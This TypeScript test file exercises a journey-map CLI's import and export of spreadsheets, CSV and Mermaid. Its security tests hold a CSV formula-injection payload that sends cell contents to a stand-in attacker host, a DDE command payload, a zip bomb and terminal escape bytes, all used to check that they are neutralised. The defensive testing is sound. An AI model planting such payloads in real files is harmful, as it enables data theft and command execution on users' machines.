import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Zip, ZipDeflate, unzipSync } from 'fflate';
import writeXlsxFile from 'write-excel-file/node';
import fc from 'fast-check';
import { parse as parseCsv } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { EXAMPLES, mapOf, run, tempDir } from './helpers.js';

/** A sheet as a service designer keeps one: a merged title, a persona and goals above, Italian lane questions, gaps, and a row of their own. */
async function practitionerSheet(dir: string, emotion: string | number = -2): Promise<string> {
  const rows = [
    [{ value: 'Rinnovo del permesso di sosta', columnSpan: 4, fontWeight: 'bold' }, null, null, null],
    [{ value: 'Persona' }, { value: 'Marta' }],
    [{ value: 'Obiettivi' }, { value: 'Dimezzare le chiamate al call center\nRidurre i reclami' }],
    [],
    [null, { value: 'Promemoria' }, { value: 'Domanda' }, { value: 'Pagamento' }],
    [{ value: 'Emozione' }, { value: 'neutra' }, { value: emotion }, { value: 1 }],
    [{ value: 'Cosa pensa o sente il cliente?' }, { value: 'Di nuovo?' }, null, { value: 'Finalmente fatto' }],
    [{ value: "Qual è l'azione del cliente?" }, { value: 'Legge la lettera' }, { value: '• Compila il modulo\n• Carica i documenti' }, { value: 'Paga online' }],
    [{ value: "Qual è il punto di contatto del cliente con l'azienda?" }, { value: 'Lettera (post)' }, { value: 'Sito del comune' }, null],
    [{ value: 'Punti critici' }, null, { value: "L'elenco dei documenti è nascosto in un PDF" }, null],
    [{ value: 'Canali preferiti' }, { value: 'Posta' }, { value: 'Web\nTelefono' }, null],
  ];
  const buffer = await writeXlsxFile(rows as never, { sheet: 'Mappa' } as never).toBuffer();
  writeFileSync(join(dir, 'permesso.xlsx'), buffer);
  return 'permesso.xlsx';
}

describe('journey import', () => {
  it('reads a practitioner spreadsheet: merged title, persona and goals above, Italian questions, empty cells, an extra row', async () => {
    const cwd = tempDir();
    const file = await practitionerSheet(cwd);
    const { code, stdout, stderr } = await run(['import', file], { cwd });
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(stdout).toBe(`# Imported by journey import from permesso.xlsx, sheet Mappa
template: current-state
title: Rinnovo del permesso di sosta
locale: it
goals:
  - Dimezzare le chiamate al call center
  - Ridurre i reclami
persona:
  name: Marta
lanes:
  - key: canali_preferiti
    label: Canali preferiti
stages:
  - name: Promemoria
    emotion: 0
    thinking:
      - Di nuovo?
    actions:
      - Legge la lettera
    touchpoints:
      - name: Lettera
        channel: post
    canali_preferiti:
      - Posta
  - name: Domanda
    emotion: -2
    actions:
      - Compila il modulo
      - Carica i documenti
    touchpoints:
      - Sito del comune
    pain_points:
      - L'elenco dei documenti è nascosto in un PDF
    canali_preferiti:
      - Web
      - Telefono
  - name: Pagamento
    emotion: 1
    thinking:
      - Finalmente fatto
    actions:
      - Paga online
`);
    // The map builds, in Italian, with the custom lane under its own label.
    writeFileSync(join(cwd, 'map.yaml'), stdout);
    const md = await run(['build', 'map.yaml', '-f', 'md', '-o', '-'], { cwd });
    expect(md.code).toBe(0);
    expect(md.stdout).toContain("| **Qual è l'azione del cliente?** | Legge la lettera | • Compila il modulo<br>• Carica i documenti | Paga online |");
    expect(md.stdout).toContain('| **Canali preferiti** | Posta | • Web<br>• Telefono |  |');
  });

  it('says which cell it cannot read, and writes nothing', async () => {
    const cwd = tempDir();
    const file = await practitionerSheet(cwd, 'boh');
    const { code, stdout, stderr } = await run(['import', file, '-o', 'map.yaml'], { cwd });
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toContain('permesso.xlsx:6:3 error Mappa!C6: expected an emotion: a whole number from -2 to 2 or a word such as negative, neutral, happy, found "boh"');
    expect(readdirSync(cwd)).toEqual(['permesso.xlsx']);
  });

  it('chooses a sheet with --sheet and names the sheets when there is no such one', async () => {
    const cwd = tempDir();
    const file = await practitionerSheet(cwd);
    expect((await run(['import', file, '--sheet', 'Mappa'], { cwd })).code).toBe(0);
    const missing = await run(['import', file, '--sheet', 'Foglio2'], { cwd });
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('permesso.xlsx:1:1 error file: no sheet named "Foglio2": the workbook has "Mappa"');
  });

  it('reads a CSV and points at the line and cell, even after a cell with line breaks', async () => {
    const cwd = tempDir();
    const csv = ['Checkout,,', ',Cart,Payment', 'actions,"Adds shoes', 'Changes size",Pays', 'emotion,happy,furious', ''].join('\n');
    writeFileSync(join(cwd, 'shop.csv'), csv);
    const { code, stderr } = await run(['import', 'shop.csv'], { cwd });
    expect(code).toBe(1);
    expect(stderr).toContain('shop.csv:5:3 error C4: expected an emotion');
  });

  it('keeps a row it does not know as a custom lane, and text above the grid in the summary', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'shop.csv'), ['Title: Buying shoes', 'Workshop,12 May', ',Cart', 'Which channels?,Web', 'thinking,Is it my size?'].join('\n'));
    const { code, stdout, stderr } = await run(['import', 'shop.csv'], { cwd });
    expect(code).toBe(0);
    expect(stderr).toContain('shop.csv:2:1 warning A2: "Workshop" is not a field journey knows above the map (title, summary, persona, goals…): kept in the summary');
    expect(stdout).toContain('title: Buying shoes\nsummary: "Workshop: 12 May"\n');
    expect(stdout).toContain('lanes:\n  - key: which_channels\n    label: Which channels?\n');
    expect(stdout).toContain('    which_channels:\n      - Web\n    thinking:\n      - Is it my size?\n');
  });

  it('places a problem of the resulting map at the cell it came from', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'p.csv'), 'Title: Runs\nPersona description,Runner\n,A\nthinking,hi\n');
    const { code, stderr, stdout } = await run(['import', 'p.csv'], { cwd });
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toContain('p.csv:2:2 error B2: persona.name: missing required key `name`: expected text');
  });

  it('names a map after its file when the sheet has no title', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'checkout-board.csv'), ',Cart,Payment\nactions,Adds shoes,Pays\n');
    const { code, stdout, stderr } = await run(['import', 'checkout-board.csv'], { cwd });
    expect(code).toBe(0);
    expect(stderr).toContain('checkout-board.csv:1:1 warning A1: found no title above the stages (a line of its own, or Title | …): the map is called "checkout-board"');
    expect(stdout).toContain('\ntitle: checkout-board\n');
  });

  it('never crashes on any grid: either a valid map or problems at their cells', async () => {
    const cwd = tempDir();
    const text = fc.oneof(fc.constant(''), fc.constantFrom('thinking', 'Emotion', 'Persona', 'Title: X', 'Cosa pensa o sente il cliente?', '-3', 'happy', 'A (web)', '• a\n• b', 'Stage'), fc.string({ maxLength: 12 }));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(text, { maxLength: 5 }), { maxLength: 8 }), async (rows) => {
        writeFileSync(join(cwd, 'any.csv'), stringify(rows.length ? rows : [['']]));
        const { code, stdout, stderr } = await run(['import', 'any.csv'], { cwd });
        expect(stderr).not.toContain('internal error');
        if (code === 0) {
          writeFileSync(join(cwd, 'any.yaml'), stdout);
          expect((await run(['validate', 'any.yaml'], { cwd })).code).toBe(0);
        } else {
          expect(code).toBe(1);
          for (const line of stderr.trim().split('\n').slice(0, -1)) expect(line).toMatch(/^any\.csv:\d+:\d+ (error|warning) /);
        }
      }),
      { numRuns: 150 },
    );
  });

  it('turns a Mermaid journey with several actors into stages, actions, emotions and a persona', async () => {
    const cwd = tempDir();
    writeFileSync(
      join(cwd, 'README.md'),
      ['# Our day', '', '```mermaid', 'journey', '  title My working day', '  section Go to work', '    Make tea: 5: Me', '    Go upstairs: 3: Me, Cat', '    Do work: 1: Me, Cat', '  section Go home', '    Go downstairs: 5: Me', '    Sit down: 4: Me, Partner', '```', ''].join('\n'),
    );
    const { code, stdout } = await run(['import', 'README.md', '-o', 'day.yaml'], { cwd });
    expect(code).toBe(0);
    expect(stdout).toBe('');
    const yaml = readFileSync(join(cwd, 'day.yaml'), 'utf8');
    expect(yaml).toBe(`# Imported by journey import from README.md
template: current-state
title: My working day
persona:
  name: Me
lanes:
  - key: actors
    label: Actors
stages:
  - name: Go to work
    emotion: 0
    actions:
      - Make tea
      - Go upstairs
      - Do work
    actors:
      - Me
      - Cat
  - name: Go home
    emotion: 2
    actions:
      - Go downstairs
      - Sit down
    actors:
      - Me
      - Partner
`);
    expect((await run(['validate', 'day.yaml'], { cwd })).code).toBe(0);
  });

  it('points at the line of a Mermaid diagram it cannot read', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'day.mmd'), 'journey\n  title X\n  section A\n    Task: 7: Me\n');
    const { code, stderr } = await run(['import', 'day.mmd'], { cwd });
    expect(code).toBe(1);
    expect(stderr).toContain('day.mmd:4:11 error mermaid: expected a score from 1 to 5 after the task\'s name, found "7"');
  });

  it('never writes over an existing file without --force', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'day.mmd'), 'journey\n  section A\n    Task: 3: Me\n');
    writeFileSync(join(cwd, 'map.yaml'), 'mine');
    const refused = await run(['import', 'day.mmd', '-o', 'map.yaml'], { cwd });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('map.yaml already exists: choose another name, or pass --force to overwrite it');
    expect(readFileSync(join(cwd, 'map.yaml'), 'utf8')).toBe('mine');
    expect((await run(['import', 'day.mmd', '-o', 'map.yaml', '--force'], { cwd })).code).toBe(0);
    expect(readFileSync(join(cwd, 'map.yaml'), 'utf8')).toMatch(/^# Imported by journey import from day\.mmd\n/);
  });

  it('refuses binary and oversized input without echoing it', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'x.csv'), Buffer.from([0x41, 0x2c, 0x00, 0xff, 0x1b, 0x5b, 0x32, 0x4a]));
    const binary = await run(['import', 'x.csv'], { cwd });
    expect(binary.code).toBe(1);
    expect(binary.stderr).toContain('x.csv:1:3 error file: file contains a NUL byte: expected CSV text, found binary content');
    expect(binary.stderr).not.toContain('\x1b[2J');
    writeFileSync(join(cwd, 'x.xlsx'), Buffer.from('\x1b[2Jnot a workbook'));
    const notXlsx = await run(['import', 'x.xlsx'], { cwd });
    expect(notXlsx.stderr).toContain('x.xlsx:1:1 error file: not an .xlsx file');
    expect(notXlsx.stderr).not.toContain('\x1b[2J');
    writeFileSync(join(cwd, 'big.csv'), 'a,'.repeat(3 * 1024 * 1024));
    const big = await run(['import', 'big.csv'], { cwd });
    expect(big.code).toBe(1);
    expect(big.stderr).toContain('larger than the limit of 5 MiB');
  });

  it('refuses a workbook that would unpack to more than 100 MiB before unpacking it', async () => {
    const cwd = tempDir();
    const parts: Uint8Array[] = [];
    const zip = new Zip((error, data) => void (error ?? parts.push(data)));
    const sheet = new ZipDeflate('xl/worksheets/sheet1.xml', { level: 1 });
    zip.add(sheet);
    const mib = new Uint8Array(1024 * 1024);
    for (let i = 0; i < 101; i++) sheet.push(mib, i === 100);
    zip.end();
    writeFileSync(join(cwd, 'bomb.xlsx'), Buffer.concat(parts));
    const { code, stderr } = await run(['import', 'bomb.xlsx'], { cwd });
    expect(code).toBe(1);
    expect(stderr).toContain('bomb.xlsx:1:1 error file: the workbook unpacks to 101 MiB, more than the limit of 100 MiB for one journey map');
  });
});

describe('journey export, then import', () => {
  // Every example and fixture comes back the same, model for model: test/round-trip.test.ts.
  it('keeps KPIs with metrics and targets, channels, ids and custom lanes through a spreadsheet', async () => {
    const cwd = tempDir();
    const map = `template: day-in-the-life
title: A nurse's day
locale: pl
lanes:
  - { key: mood_words, label: Jak to opisuje? }
stages:
  - name: Rano
    id: early
    time: "06:30"
    touchpoints: [{ name: Phone app, channel: app }, Ward board (3rd floor)]
    kpis: [{ name: Handover time, metric: handover_minutes, target: "<= 15 min" }, Errors]
    mood_words: [Tired, Rushed]
  - name: Rano
    emotion: delighted
    notes: "Line one\\nline two"
`;
    writeFileSync(join(cwd, 'day.yaml'), map);
    for (const format of ['csv', 'xlsx']) {
      const exported = await run(['export', 'day.yaml', '-f', format, '-o', `day.${format}`], { cwd });
      expect(exported.code, exported.stderr).toBe(0);
      const imported = await run(['import', `day.${format}`, '-o', `back-${format}.yaml`], { cwd });
      expect(imported.code, imported.stderr).toBe(0);
      const back = readFileSync(join(cwd, `back-${format}.yaml`), 'utf8');
      expect(back).toContain('template: day-in-the-life\n');
      expect(back).toContain('locale: pl\n');
      expect(back).toContain('    id: early\n');
      expect(back).toContain('      - name: Handover time\n        metric: handover_minutes\n        target: <= 15 min\n');
      for (const what of ['html', 'md']) {
        const before = await run(['build', 'day.yaml', '-f', what, '-o', '-'], { cwd });
        const after = await run(['build', `back-${format}.yaml`, '-f', what, '-o', '-'], { cwd });
        expect(after.stdout).toBe(before.stdout);
      }
    }
  });

  it('writes no cell a spreadsheet would run as a formula, and reads its own cells back to the same text', async () => {
    const cwd = tempDir();
    writeFileSync(
      join(cwd, 'map.yaml'),
      `template: current-state
title: '=HYPERLINK("http://attacker.test/?d="&A2,"Open")'
stages:
  - name: "+SUM(1,2)"
    emotion: -2
    actions: ["@cmd|' /C calc'!A0", "-1+2"]
    thinking: "'=already quoted"
  - name: "-2"
    emotion: 1
    actions: ["'plain quote"]
    thinking: "\\tstill text"
`,
    );
    const before = mapOf(readFileSync(join(cwd, 'map.yaml'), 'utf8'));
    expect((await run(['export', 'map.yaml', '-f', 'csv'], { cwd })).code).toBe(0);
    const cells = (parseCsv(readFileSync(join(cwd, 'map.csv'), 'utf8'), { bom: true, relax_column_count: true }) as string[][]).flat();
    // OWASP: a cell starting with = + - @ tab or carriage return gets a single quote first; so does one
    // already starting with quotes before such a character, so that the quote read back is the one added.
    expect(cells).toContain(`'=HYPERLINK("http://attacker.test/?d="&A2,"Open")`);
    expect(cells).toContain("'+SUM(1,2)");
    expect(cells).toContain("'@cmd|' /C calc'!A0\n-1+2");
    expect(cells).toContain("''=already quoted");
    expect(cells).toContain("'plain quote");
    expect(cells).toContain("'\tstill text");
    // A number is no formula: a score, or a stage named -2, stays as it is.
    expect(cells.filter((c) => c === '-2')).toHaveLength(2);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && c !== '-2')).toEqual([]);

    // The XLSX keeps the text exact in string cells (t="s"), which no spreadsheet program runs, and a score as a number.
    expect((await run(['export', 'map.yaml', '-f', 'xlsx'], { cwd })).code).toBe(0);
    const sheet = new TextDecoder().decode(unzipSync(readFileSync(join(cwd, 'map.xlsx')))['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toContain('<f>');
    expect(sheet.match(/<c r="[A-Z]+\d+"[^>]*>[^]*?<\/c>/g)!.filter((c) => !c.includes('t="s"'))).toEqual([expect.stringContaining('<v>-2</v>'), expect.stringContaining('<v>1</v>')]);

    for (const format of ['csv', 'xlsx']) {
      const imported = await run(['import', `map.${format}`, '-o', `back-${format}.yaml`], { cwd });
      expect(imported.code, imported.stderr).toBe(0);
      const after = mapOf(readFileSync(join(cwd, `back-${format}.yaml`), 'utf8'));
      // A leading tab is trimmed from a cell on import, as from any spreadsheet text (a map holds no carriage return); the rest is exact.
      const trim = (m: typeof before) => JSON.parse(JSON.stringify(m).replace(/"\\t/g, '"'));
      expect(trim(after), format).toEqual(trim(before));
    }
  });

  it('writes the spreadsheet beside the map, lane questions in the first column, stages in the first row', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'map.yaml'), readFileSync(join(EXAMPLES, 'current-state.yaml')));
    const { code, stderr } = await run(['export', 'map.yaml', '-f', 'csv'], { cwd });
    expect(code).toBe(0);
    expect(stderr).toBe('✓ map.yaml → map.csv\n');
    const csv = readFileSync(join(cwd, 'map.csv'), 'utf8');
    expect(csv.startsWith('\ufeffBuying running shoes online,,,,,\n')).toBe(true);
    expect(csv).toContain('\n,Awareness,Consideration,');
    expect(csv).toContain('\nWhat does the customer think or feel?,');
    expect(existsSync(join(cwd, 'map.xlsx'))).toBe(false);
  });

  it('refuses to write a spreadsheet over a map', async () => {
    const cwd = tempDir();
    writeFileSync(join(cwd, 'map.yaml'), readFileSync(join(EXAMPLES, 'current-state.yaml')));
    const { code, stderr } = await run(['export', 'map.yaml', '-f', 'csv', '-o', 'other.yaml'], { cwd });
    expect(code).toBe(1);
    expect(stderr).toContain('refusing to write the csv export to other.yaml: a .yaml file could be a map');
  });
});
